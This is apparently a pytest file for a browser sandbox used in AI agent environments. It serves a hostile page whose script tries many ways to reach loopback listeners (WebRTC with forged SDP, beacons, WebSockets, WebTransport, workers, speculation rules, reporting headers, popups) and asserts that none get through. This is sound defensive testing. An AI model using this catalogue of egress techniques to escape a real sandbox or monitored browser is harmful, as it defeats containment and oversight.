"""Ways out of a page: real listeners on the loopback hear nothing of a hostile page, whatever the page tries."""

from __future__ import annotations

import asyncio
import json
import socket
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from rollwright.contracts.environment import episode_seed
from rollwright.envs.web import open_web
from rollwright.envs.web.chromium import browser_pool as browser
from rollwright.envs.web.chromium import processes
from rollwright.envs.web.chromium.processes import network_cut, starter
from rollwright.envs.web.miniwob import build as build_miniwob

pytestmark = pytest.mark.browser

# Each tries one way out to the ports UDP_PORT and TCP_PORT of 127.0.0.1, which are no origin of the task.
WAYS = r"""
const http = 'http://127.0.0.1:TCP_PORT', pause = (ms) => new Promise((done) => setTimeout(done, ms));
const rtc = async (w) => {
  const peer = new w.RTCPeerConnection({ iceServers: [
    { urls: 'stun:127.0.0.1:UDP_PORT' }, { urls: 'turn:127.0.0.1:UDP_PORT', username: 'u', credential: 'p' },
    { urls: 'turn:127.0.0.1:TCP_PORT?transport=tcp', username: 'u', credential: 'p' },
    { urls: 'turns:127.0.0.1:TCP_PORT?transport=tcp', username: 'u', credential: 'p' } ] });
  peer.createDataChannel('x');
  const offer = await peer.createOffer();
  await peer.setLocalDescription(offer);
  // An answer by hand, with the listeners as the other side: datagrams and a passive TCP candidate.
  const answer = offer.sdp.replace('a=setup:actpass', 'a=setup:active').replace(/a=ice-ufrag:.*/, 'a=ice-ufrag:abcd')
    .replace(/a=ice-pwd:.*/, 'a=ice-pwd:' + 'x'.repeat(24)).replace(/a=candidate.*\r\n/g, '');
  await peer.setRemoteDescription({ type: 'answer', sdp: answer });
  await peer.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 127.0.0.1 UDP_PORT typ host', sdpMid: '0' });
  await peer.addIceCandidate({ candidate: 'candidate:2 1 tcp 1518280447 127.0.0.1 TCP_PORT typ host tcptype passive', sdpMid: '0' });
};
const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
const work = (Kind, source) => new Kind(URL.createObjectURL(new Blob([source])));
const WAYS = {
  rtc: () => rtc(window),
  frame_rtc: () => rtc(document.body.appendChild(document.createElement('iframe')).contentWindow),
  popup_rtc: () => rtc(window.open('about:blank')),
  fetch: () => fetch(http + '/fetch', { mode: 'no-cors' }),
  image: () => add(`<img src=${http}/image>`),
  style: () => add(`<style>@import '${http}/css'; @font-face { font-family: f; src: url(${http}/font) } p { font-family: f; background: url(${http}/bg) }</style>`),
  frame: () => add(`<iframe src=${http}/frame></iframe><object data=${http}/object></object><embed src=${http}/embed>`),
  media: () => add(`<video src=${http}/video autoplay></video><track src=${http}/track>`),
  links: () => document.head.insertAdjacentHTML('beforeend', ['preconnect', 'dns-prefetch', 'prefetch', 'prerender', 'preload', 'modulepreload', 'manifest', 'icon'].map((rel) => `<link rel=${rel} as=script href=${http}/${rel}>`).join('')),
  names: () => document.head.insertAdjacentHTML('beforeend', '<link rel=dns-prefetch href=//secret.localhost><link rel=preconnect href=//secret.localhost:TCP_PORT>'),
  socket: () => new WebSocket('ws://127.0.0.1:TCP_PORT/socket'),
  transport: () => new WebTransport('https://127.0.0.1:UDP_PORT/').ready,
  events: () => { new EventSource(http + '/events'); },
  beacon: () => navigator.sendBeacon(http + '/beacon', 'x'),
  ping: () => { add(`<a id=pinging href=#here ping=${http}/ping>x</a>`); document.getElementById('pinging').click(); },
  form: () => { add(`<iframe name=inner></iframe><form target=inner method=post action=${http}/form></form>`); document.forms[0].submit(); },
  worker: () => work(Worker, `fetch('${http}/worker'); new WebSocket('ws://127.0.0.1:TCP_PORT/'); new WebTransport('https://127.0.0.1:UDP_PORT/')`),
  shared: () => work(SharedWorker, `fetch('${http}/shared'); new WebSocket('ws://127.0.0.1:TCP_PORT/')`),
  service: () => navigator.serviceWorker.register('/sw.js'),
  rules: () => { const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: [http + '/rule'] }], prefetch: [{ source: 'list', urls: [http + '/rule2'] }] }); document.head.append(s); },
  report: () => fetch('/reported'),
  popup: () => { window.open(http + '/popup'); },
  save: () => { const a = document.createElement('a'); a.download = 'x'; a.href = http + '/save'; a.click(); },
  leave: () => { location = http + '/leave'; },
};
"""  # noqa: E501
TRY_ALL = """
window.tried = (async () => {
  const told = {};
  for (const [name, way] of Object.entries(WAYS)) {
    try { await Promise.race([way(), pause(400)]); told[name] = 'tried'; } catch (error) { told[name] = String(error); }
  }
  await pause(1500);
  document.title = 'tried';
  return JSON.stringify(told);
})();
"""


class Ears:
    """Listeners on one TCP and one UDP port of the loopback; `heard` is what came."""

    def __init__(self) -> None:
        self.heard: list[tuple[str, bytes]] = []
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", 0))
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.ports = {"UDP": self._udp.getsockname()[1], "TCP": self._tcp.getsockname()[1]}
        for listen in (self._datagrams, self._connections):
            threading.Thread(target=listen, daemon=True).start()

    def _datagrams(self) -> None:
        while True:
            try:
                self.heard.append(("udp", self._udp.recv(2000)[:40]))
            except OSError:
                return

    def _connections(self) -> None:
        while True:
            try:
                connection, _ = self._tcp.accept()
            except OSError:
                return
            connection.settimeout(0.2)
            try:
                self.heard.append(("tcp", connection.recv(100)))
            except OSError:
                self.heard.append(("tcp", b""))
            connection.close()

    def close(self) -> None:
        self._udp.close()
        self._tcp.shutdown(socket.SHUT_RDWR)
        self._tcp.close()


@pytest.fixture
def ears() -> Iterator[Ears]:
    ears = Ears()
    yield ears
    ears.close()


def with_ports(source: str, ears: Ears) -> str:
    for name, port in ears.ports.items():
        source = source.replace(f"{name}_PORT", str(port))
    return source


@pytest.fixture
def hostile(ears: Ears) -> Iterator[str]:
    """The address of a site whose page tries every way out."""
    page = with_ports(f"<p>Here</p><script>{WAYS}{TRY_ALL}</script>", ears)

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript" if self.path == "/sw.js" else "text/html")
            self.send_header(
                "Report-To",
                json.dumps({"max_age": 9, "endpoints": [{"url": with_ports("http://127.0.0.1:TCP_PORT/r", ears)}]}),
            )
            self.send_header("NEL", '{"report_to":"default","max_age":9,"success_fraction":1}')
            self.send_header("Link", with_ports("<http://127.0.0.1:TCP_PORT/early>; rel=preload; as=script", ears))
            self.end_headers()
            self.wfile.write(page.encode() if self.path == "/" else b"")

        def log_message(self, format: str, *args: object) -> None:
            """Quiet."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_the_ears_hear(ears: Ears) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        udp.sendto(b"knock", ("127.0.0.1", ears.ports["UDP"]))
    with socket.create_connection(("127.0.0.1", ears.ports["TCP"])) as tcp:
        tcp.sendall(b"knock")
    for _ in range(100):
        if len(ears.heard) == 2:
            break
        threading.Event().wait(0.05)
    assert sorted(ears.heard) == [("tcp", b"knock"), ("udp", b"knock")]


@pytest.mark.parametrize("namespace", [True, False], ids=["network-cut", "flags-alone"])
async def test_no_way_out_of_a_foreign_page(
    namespace: bool, hostile: str, ears: Ears, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    if namespace and not network_cut():
        pytest.skip("this machine has no network namespaces")
    if not namespace:
        monkeypatch.setattr(browser, "starter", lambda program, _folder: program)
    tasks = tmp_path / "tasks.json"
    evaluation = {"eval_types": ["string_match"], "reference_answers": {"exact_match": "x"}}
    tasks.write_text(json.dumps([{"task_id": 1, "start_url": f"{hostile}/", "intent": "x", "eval": evaluation}]))
    world = open_web.build(tasks=str(tasks), deadline_s=60, load_s=30)
    try:
        env = world.make()
        first = await env.reset(world.tasks("train")[0], episode_seed("train", 0))
        assert "Here" in first.text
        assert env._page is not None
        told = await tried(await of_the_site(env._page.page.handle, hostile))
        assert len(told) > 20 and told["fetch"] != "tried", "the page did try"
        assert {told["rtc"], told["frame_rtc"]} == {"tried"}, "with a WebRTC that is really there"
        result = await env.step("tab_focus 1")  # its blank window is shown
        assert "\nHere\n" in result.observation.text and "1 link x" in result.observation.text, "it is still there"  # type: ignore[union-attr]
        assert env._page.page.requests_blocked >= 10, "what the browser would have asked for is counted"
        await env.close()
    finally:
        await world.close()
    assert ears.heard == []


async def of_the_site(page: Any, address: str) -> Any:
    """The page that tries: a window that it opens is followed, so that another one may be in front."""
    found = [other for other in page.context.pages if other.url.startswith(address)]
    assert len(found) == 1, [other.url for other in page.context.pages]
    return found[0]


async def tried(page: Any) -> dict[str, str]:
    for _ in range(600):
        if await page.title() == "tried":
            break
        await asyncio.sleep(0.1)
    return dict(json.loads(await page.evaluate("window.tried")))


async def test_the_flags_alone_close_a_miniwob_page_too(ears: Ears, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(browser, "starter", lambda program, _folder: program)
    world = build_miniwob(tasks=["click-test-2"])
    try:
        env = world.make()
        await env.reset(world.task("click-test-2", "train"), episode_seed("train", 1))
        assert env._page is not None
        script = (
            f"async () => {{ {WAYS} await rtc(window); WAYS.image(); WAYS.beacon(); WAYS.socket(); return 'tried'; }}"
        )
        assert await env._page.handle.evaluate(with_ports(script, ears)) == "tried"
        await asyncio.sleep(1.5)
        assert env._page.requests_blocked >= 3
    finally:
        await world.close()
    assert ears.heard == []


def test_the_start_script_runs_a_program_without_a_network(tmp_path: Path) -> None:
    """Whatever the browser grows later: in its namespace not even the loopback is up."""
    if not network_cut():
        pytest.skip("this machine has no network namespaces")
    probe = tmp_path / "a probe"
    probe.write_text('#!/bin/sh\ncat /proc/net/dev; echo "$@"\n')
    probe.chmod(0o700)
    said = subprocess.run(
        [starter(str(probe), tmp_path), "two words", "$x"], capture_output=True, text=True, check=True
    )
    assert said.stdout.endswith("two words $x\n")
    devices = [line.split(":")[0].strip() for line in said.stdout.splitlines() if ":" in line]
    assert devices == ["lo"] and "lo:       0       0" in said.stdout


def test_without_namespaces_the_browser_is_started_as_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(processes, "network_cut", tuple)
    assert processes.starter("/usr/bin/some-browser", tmp_path) == "/usr/bin/some-browser"
    assert list(tmp_path.iterdir()) == []
